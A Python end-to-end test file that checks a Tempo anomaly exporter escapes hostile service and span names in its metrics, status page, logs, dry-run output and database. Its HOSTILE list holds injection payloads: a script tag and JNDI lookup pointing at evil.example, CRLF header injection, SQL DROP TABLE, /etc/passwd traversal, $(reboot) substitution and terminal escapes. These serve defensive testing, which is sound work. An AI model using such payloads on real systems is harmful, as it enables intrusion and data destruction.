"""Hostile service and span names in every output: pages, metrics, logs, database and files."""

import json
import sqlite3
import subprocess
import time
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any, Final

import pytest

from exporter.demo.tempo_api import TempoServer
from exporter.model.label import LabelNames, cut_mark
from exporter.model.span import SeriesKey
from exporter.tempo.decode import MAX_NAME_CHARACTERS
from exporter.web.pages.formatting import cut
from tests.e2e.test_http import PageText
from tests.support.processes import ExporterProcess, command, settings, write_settings
from tests.support.programs import program
from tests.support.scrape import OPENMETRICS, Metrics
from tests.support.traffic import HOUR, MINUTE, Traffic
from tools.processes import environment

DATABASE = "tempo-anomaly.db"
HOSTILE: Final = (
    "plain",
    'quotes " and \\" and \\ and a line\nlevel=error msg="forged"',
    'x"} 1\n# TYPE forged gauge\nforged 1\n# EOF',
    "</td></table><script src=//evil.example></script><img onerror=alert(1)>&amp;",
    "javascript:alert(1)//%0d%0aSet-Cookie: x=1\r\nX-Forged: 1\r\n\r\n",
    "'; DROP TABLE series; --\" OR 1=1",
    "../../../etc/passwd\0.db",
    "$(reboot) `reboot` ${jndi:ldap://evil.example} {{ .Labels }} %s %n {0}",
    "\x1b]0;title\x07\x1b[2J\u202etxt.exe\u2028\x85\u200b",
    "GET /" + "long/" * 2000,
    "日本語 ÅÅ 🙂",
)
SERIES: Final = [SeriesKey(name, name) for name in HOSTILE]


def as_published(name: str) -> str:
    """Return a name as published: NUL is replaced, and a long name is truncated."""
    name = name.replace("\0", "\ufffd")
    return name if len(name) <= MAX_NAME_CHARACTERS else name[: MAX_NAME_CHARACTERS - 13] + cut_mark(name)


NAMES: Final = {as_published(name) for name in HOSTILE}
PUBLISHED: Final = {LabelNames().of(SeriesKey(name, name)) for name in NAMES}


@pytest.fixture(scope="module")
def tempo_url() -> Iterator[str]:
    """A Tempo in which every endpoint has two days of history and an incident that started ten minutes ago."""
    now = time.time()
    traffic = Traffic()
    this_hour = int(now) // HOUR * HOUR
    for key in SERIES:
        traffic.hourly(key, range(this_hour - 48 * HOUR, this_hour - HOUR, HOUR), count=6, scale=0.2)
        traffic.spread(key, now - 10 * MINUTE, now + 5 * MINUTE, count=150, scale=2.0)
    with TempoServer(traffic.store()) as server:
        yield server.url


def configuration(url: str, log_format: str) -> dict[str, Any]:
    return settings(
        url,
        polling={"backfill_duration": "48h"},
        detection={"hold": "1s"},
        # Placeholders would replace numbers in the names.
        series={"placeholders": False},
        log={"format": log_format, "level": "debug"},
    )


@pytest.fixture(scope="module")
def running(tempo_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ExporterProcess]:
    """An exporter on which every shift flag fires."""
    with ExporterProcess(tmp_path_factory.mktemp("exporter"), configuration(tempo_url, "json")) as process:
        process.wait_for(
            lambda page: all(page.get("anomalous", series, kind="shift") == 1 for series in PUBLISHED), timeout=240
        )
        yield process


@pytest.mark.parametrize("accept", ["text/plain", OPENMETRICS])
def test_metrics_page_escapes_names(running: ExporterProcess, accept: str) -> None:
    response = running.get("/metrics", headers={"Accept": accept})
    response.encoding = "utf-8"
    page = Metrics.parse(response.text, openmetrics=accept == OPENMETRICS)
    assert page.series() == PUBLISHED
    assert not [name for name in page.families if "forged" in name]
    if accept != OPENMETRICS:
        checked = subprocess.run([program("promtool"), "check", "metrics"], input=response.content, timeout=240)
        assert checked.returncode in (0, 3)  # 3: complaints about names of the client library


def test_status_page_escapes_names(running: ExporterProcess) -> None:
    response = running.get("/")
    assert "X-Forged" not in response.headers and "Set-Cookie" not in response.headers
    text = PageText()
    text.feed(response.content.decode("utf-8"))
    assert "script" not in text.elements
    for markup in ("<img onerror", "<script src=//", "</table><script"):
        assert markup not in response.text
    assert {cut(name) for name in NAMES} <= set(text.names)


def test_log_keeps_each_name_whole_in_one_line(running: ExporterProcess) -> None:
    lines = list(running.lines)
    records = [json.loads(line) for line in lines]
    assert all({"ts", "level", "logger", "msg"} <= record.keys() for record in records)
    assert all(line.isprintable() or line.isascii() for line in lines)
    logged = {record["span_name"] for record in records if record.get("event") == "shift_firing"}
    assert logged == NAMES
    assert not [record for record in records if record["msg"] == "forged"]


def test_dry_run_escapes_names_in_its_summary_and_log(tempo_url: str, tmp_path: Path) -> None:
    file = write_settings(tmp_path, configuration(tempo_url, "logfmt"))
    # Bytes: text mode would convert carriage returns to line ends.
    ended = subprocess.run(
        command("--once", "--config", str(file)), cwd=tmp_path, env=environment(), capture_output=True, timeout=240
    )
    stderr = ended.stderr.decode("utf-8")
    assert ended.returncode == 0, stderr
    assert Metrics.parse(ended.stdout.decode("utf-8")).series() == PUBLISHED
    assert all(character == "\n" or character.isprintable() for character in stderr)
    moment = ("slower than usual", "failing more often than usual", "far from the usual traffic")
    verdicts = (f"{each} at this moment" for each in moment)
    prefixes = ("ts=", "  ", "history: ", "series: ", "all endpoints together: ", *verdicts, "complete")
    assert [line for line in stderr.split("\n")[:-1] if not line.startswith(prefixes)] == []
    assert sum(line.startswith("  ") for line in stderr.split("\n")[:-1]) == len(HOSTILE)


def test_database_holds_the_names_and_no_other_file_exists(running: ExporterProcess) -> None:
    with closing(sqlite3.connect(f"file:{running.directory / DATABASE}?mode=ro", uri=True)) as database:
        assert database.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        tables = {name for (name,) in database.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
        assert {"series", "windows", "digests"} <= tables
        stored = set(database.execute("SELECT service_name, span_name FROM series"))
    assert stored == {(name, name) for name in NAMES}
    assert {file.name for file in running.directory.iterdir()} == {
        "exporter.yaml", DATABASE, f"{DATABASE}-wal", f"{DATABASE}-shm", f"{DATABASE}.lock",
    }  # fmt: skip
